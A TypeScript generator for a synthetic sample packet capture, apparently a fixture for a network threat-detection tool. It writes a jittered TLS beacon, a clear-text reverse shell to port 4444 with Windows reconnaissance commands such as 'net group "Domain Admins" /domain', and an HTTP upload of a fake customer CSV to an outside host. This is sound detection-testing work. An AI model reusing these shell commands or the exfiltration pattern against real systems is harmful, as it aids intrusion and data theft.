/**
 * The bundled sample capture (samples/c2-sample.pcap): 90 minutes of a small office network
 * with three documented infection traces and benign traffic around them. Deterministic: the
 * same code always writes the same bytes (a test checks the committed file against it).
 *
 * Traces (all addresses synthetic; the public ones are chosen only so that GeoIP shows
 * foreign countries and AS names, no real party is implied):
 * - beacon: 10.20.0.23 calls telemetry.cloud-sync-update.com over TLS every 60 s with
 *   ±25% jitter and a few missed callbacks, spread over two rotating addresses.
 * - backdoor port: 10.20.0.42 holds a clear-text reverse shell to 45.137.21.9:4444.
 * - clear-text upload: 10.20.0.17 POSTs 2 MB of CSV over plain HTTP to 91.219.236.18.
 * - benign: NTP every 64 s, HTTPS browsing to a busy CDN by several hosts, DNS.
 */
import { TcpConversation, udpFrame, prng, buildFrame } from './packet-builder.js';
import { dnsQuery, dnsResponse, tlsAppData, tlsClientHello, tlsServerHello } from './app-payloads.js';
import { PcapBuffer } from './pcap-writer.js';

export const SAMPLE_START = Date.UTC(2026, 2, 2, 9, 0, 0) / 1000;
export const SAMPLE_DURATION = 90 * 60;

export const SAMPLE_TRUTH = {
  beacon: { src: '10.20.0.23', host: 'telemetry.cloud-sync-update.com', dsts: ['185.141.63.120', '185.141.63.121'], port: 443, interval: 60 },
  backdoor: { src: '10.20.0.42', dst: '45.137.21.9', port: 4444 },
  upload: { src: '10.20.0.17', dst: '91.219.236.18', port: 80, host: 'files-drop.example-share.net', bytes: 2_000_000 },
  resolver: '10.20.0.2',
} as const;

interface Pkt {
  ts: number;
  frame: Buffer;
  seq: number;
}

/** Builds the sample capture in memory (it is small). */
export function buildC2Sample(): Buffer {
  const rnd = prng(0x6b6f6e73);
  const pkts: Pkt[] = [];
  let order = 0;
  const sink = (ts: number, frame: Buffer) => pkts.push({ ts, frame, seq: order++ });
  const T0 = SAMPLE_START;
  const { beacon, backdoor, upload, resolver } = SAMPLE_TRUTH;
  let dnsId = 0x1000;
  let ephemeral = 49152;
  const nextPort = () => (ephemeral = ephemeral >= 65000 ? 49152 : ephemeral + 1);
  const random32 = () => {
    const b = Buffer.alloc(32);
    for (let i = 0; i < 32; i++) b[i] = (rnd() * 256) | 0;
    return b;
  };
  const isn = () => ({ client: (rnd() * 0xffffffff) >>> 0, server: (rnd() * 0xffffffff) >>> 0 });

  const lookup = (ts: number, client: string, name: string, addrs: string[]) => {
    const id = dnsId++ & 0xffff;
    const port = nextPort();
    sink(ts, udpFrame(client, port, resolver, 53, dnsQuery(id, name)));
    sink(ts + 0.012, udpFrame(resolver, 53, client, port, dnsResponse(id, name, addrs, 300)));
    return ts + 0.015;
  };

  const tlsSession = (ts: number, client: string, server: string, sni: string, up: number, down: number) => {
    const c = new TcpConversation(sink, client, nextPort(), server, 443, isn());
    let t = c.handshake(ts);
    t = c.send(true, t, tlsClientHello(sni, random32()));
    t = c.send(false, t, tlsServerHello(random32()));
    t = c.send(true, t, tlsAppData(up, rnd));
    t = c.send(false, t + 0.05, tlsAppData(down, rnd));
    return c.close(t + 0.01);
  };

  // 1. The beacon: every 60 s ±25%, three missed callbacks, rotating addresses, DNS every 5 min.
  let lastLookup = -Infinity;
  for (let i = 0, t = T0 + 20; t < T0 + SAMPLE_DURATION - 30; i++, t += 60 * (0.75 + 0.5 * rnd())) {
    if (i === 17 || i === 41 || i === 42) continue; // missed callbacks
    const dst = beacon.dsts[i % 2];
    let ts = t;
    if (ts - lastLookup > 300) {
      ts = lookup(ts, beacon.src, beacon.host, [...beacon.dsts]);
      lastLookup = ts;
    }
    tlsSession(ts, beacon.src, dst, beacon.host, 200 + ((rnd() * 40) | 0), 130 + ((rnd() * 30) | 0));
  }

  // 2. The reverse shell on 4444: one long connection, commands in, output out, in clear text.
  {
    const c = new TcpConversation(sink, backdoor.src, nextPort(), backdoor.dst, backdoor.port, isn());
    let t = c.handshake(T0 + 600);
    t = c.send(true, t, Buffer.from('Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\accounting>'));
    const cmds = ['whoami', 'ipconfig /all', 'net user', 'dir C:\\Users\\accounting\\Documents', 'tasklist', 'net group "Domain Admins" /domain'];
    for (let k = 0; t < T0 + 1740; k++) {
      const cmd = cmds[k % cmds.length];
      t = c.send(false, t + 20 + rnd() * 60, Buffer.from(cmd + '\r\n'));
      const out = Buffer.from(`${cmd}\r\n` + 'output line of the command, plain text as a shell writes it\r\n'.repeat(5 + ((rnd() * 40) | 0)) + 'C:\\Users\\accounting>');
      t = c.send(true, t + 0.3, out);
    }
    c.close(T0 + 1800, false);
  }

  // 3. The clear-text upload: HTTP POST of a 2 MB CSV file.
  {
    const ts = lookup(T0 + 2400, upload.src, upload.host, [upload.dst]);
    const rows: string[] = ['customer_id,name,email,iban,balance'];
    let size = rows[0].length + 1;
    for (let i = 0; size < upload.bytes; i++) {
      const row = `${100000 + i},Customer ${i},customer${i}@example.org,DE89370400440532${String(i).padStart(6, '0')},${(rnd() * 100000).toFixed(2)}`;
      rows.push(row);
      size += row.length + 1;
    }
    const body = Buffer.from(rows.join('\n') + '\n').subarray(0, upload.bytes);
    const head = Buffer.from(
      `POST /upload.php HTTP/1.1\r\nHost: ${upload.host}\r\nUser-Agent: curl/8.5.0\r\nContent-Type: text/csv\r\n` +
        `Content-Disposition: attachment; filename="customers.csv"\r\nContent-Length: ${body.length}\r\n\r\n`,
    );
    const c = new TcpConversation(sink, upload.src, nextPort(), upload.dst, upload.port, isn());
    let t = c.handshake(ts);
    t = c.send(true, t, Buffer.concat([head, body]), 1460, 0.0008);
    t = c.send(false, t + 0.2, Buffer.from('HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nOK'));
    c.close(t + 0.05);
  }

  // 4. Benign: NTP every 64 s from two hosts; HTTPS browsing to a busy CDN from several hosts.
  for (const host of ['10.20.0.23', '10.20.0.17']) {
    const port = 123;
    for (let t = T0 + 5 + rnd() * 10; t < T0 + SAMPLE_DURATION; t += 64) {
      const req = Buffer.alloc(48);
      req[0] = 0x23;
      sink(t, udpFrame(host, port, '162.159.200.123', 123, req));
      const resp = Buffer.alloc(48);
      resp[0] = 0x24;
      resp[1] = 3;
      sink(t + 0.018, udpFrame('162.159.200.123', 123, host, port, resp));
    }
  }
  const browsers = ['10.20.0.17', '10.20.0.31', '10.20.0.42', '10.20.0.55', '10.20.0.23'];
  for (let i = 0; i < 40; i++) {
    const host = browsers[i % browsers.length];
    const t = T0 + rnd() * (SAMPLE_DURATION - 60);
    const ts = lookup(t, host, 'www.gstatic.com', ['142.250.185.99']);
    tlsSession(ts, host, '142.250.185.99', 'www.gstatic.com', 400 + ((rnd() * 1200) | 0), 2000 + ((rnd() * 60000) | 0));
  }
  // An ICMP echo pair and an ARP request, so the sample also shows non-TCP accounting.
  sink(T0 + 30, buildFrame({ src: '10.20.0.31', dst: '10.20.0.1', proto: 1, icmpType: 8, payload: Buffer.alloc(32) }));
  sink(T0 + 30.001, buildFrame({ src: '10.20.0.1', dst: '10.20.0.31', proto: 1, icmpType: 0, payload: Buffer.alloc(32) }));
  const arp = Buffer.alloc(42);
  arp.fill(0xff, 0, 6);
  arp.writeUInt16BE(0x0806, 12);
  arp.writeUInt16BE(1, 14);
  arp.writeUInt16BE(0x0800, 16);
  arp[18] = 6;
  arp[19] = 4;
  arp.writeUInt16BE(1, 20);
  sink(T0 + 1, arp);

  pkts.sort((a, b) => a.ts - b.ts || a.seq - b.seq);
  const out = new PcapBuffer();
  for (const p of pkts) out.add(p.ts, p.frame);
  return out.toBuffer();
}
